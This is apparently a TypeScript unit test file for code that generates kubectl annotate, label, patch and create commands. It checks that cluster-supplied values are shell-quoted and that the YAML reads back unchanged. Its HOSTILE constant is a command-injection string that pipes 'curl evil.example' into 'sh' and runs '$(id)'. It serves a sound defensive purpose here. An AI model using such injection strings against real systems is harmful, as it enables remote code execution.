import { parse } from 'yaml';
import { jsonPatchRemedy } from './jsonPatch';
import { resourceOf } from '../../../commands/kubectl';
import { labelCommand } from './labelCommand';
import { commandRemedy, createRemedy } from './remedies';

const SERVICE = {
  apiVersion: 'v1',
  kind: 'Service',
  namespace: 'shop',
  name: 'orders',
};
const HOSTILE = "x'; curl evil.example | sh; echo '$(id)`id`\"\\";
const QUOTED = `x'\\''; curl evil.example | sh; echo '\\''$(id)\`id\`"\\`;

describe('remedies', () => {
  it('quotes what comes from a cluster, wherever it stands in a command', () => {
    const { text } = commandRemedy(
      'east',
      ['kubectl', 'annotate', ...resourceOf(SERVICE), `a=${HOSTILE}`],
      labelCommand({ ...SERVICE, name: HOSTILE }, { key: 'value' }, {}),
    );

    expect(text.split('\n')).toEqual([
      `kubectl annotate service orders --namespace shop 'a=${QUOTED}'`,
      `kubectl label service '${QUOTED}' --namespace shop key=value`,
    ]);
  });

  it('quotes values in patches', () => {
    const value = { host: HOSTILE };

    const { text } = jsonPatchRemedy('east', SERVICE, {
      op: 'replace',
      field: 'spec',
      value,
    });

    const [, json] = /--patch '(.*)'$/.exec(text)!;
    const back: unknown = JSON.parse(json!.replaceAll(`'\\''`, `'`));
    expect(JSON.stringify(back)).toContain(JSON.stringify(value));
    expect(json!.replaceAll(`'\\''`, '')).not.toContain(`'`);
  });

  it('patches a key with dots and slashes', () => {
    const field = 'metadata.annotations[example.com/a~b]';

    expect(
      jsonPatchRemedy('east', SERVICE, { op: 'remove', field }).text,
    ).toContain('"path":"/metadata/annotations/example.com~1a~0b"');
  });

  it('writes no label over one that nobody has read', () => {
    expect(
      labelCommand(SERVICE, { mesh: 'yes', team: 'a' }, { team: 'a' }).join(
        ' ',
      ),
    ).toBe('kubectl label service orders --namespace shop mesh=yes team=a');
  });

  it('replaces a label only while it has the value that was read', () => {
    expect(
      labelCommand(SERVICE, { mesh: 'yes', team: 'a' }, { team: 'b' }).at(-1),
    ).toBe(
      JSON.stringify([
        { op: 'test', path: '/metadata/labels/team', value: 'b' },
        { op: 'test', path: '/metadata/labels/mesh' },
        { op: 'add', path: '/metadata/labels/mesh', value: 'yes' },
        { op: 'add', path: '/metadata/labels/team', value: 'a' },
      ]),
    );
  });

  it('makes new objects, and takes none over', () => {
    const [command, ...yaml] = createRemedy('east', [
      { kind: 'A' },
      { kind: 'B' },
    ]).text.split('\n');

    expect(command).toBe(`kubectl create --filename - <<'END'`);
    expect(yaml).toEqual(['kind: A', '---', 'kind: B', 'END']);
  });

  it('writes YAML that reads back as the same objects', () => {
    const objects = [
      HOSTILE,
      'no',
      '0777',
      'a: b',
      '- a',
      '---\nb: 1',
      '*x',
    ].map(value => ({ kind: 'A', value }));

    const [, text = ''] =
      /<<'END'\n([^]*)END$/.exec(createRemedy('east', objects).text) ?? [];

    expect(
      text.split(/^---\n/m).map(part => parse(part, { version: '1.1' })),
    ).toEqual(objects);
  });
});
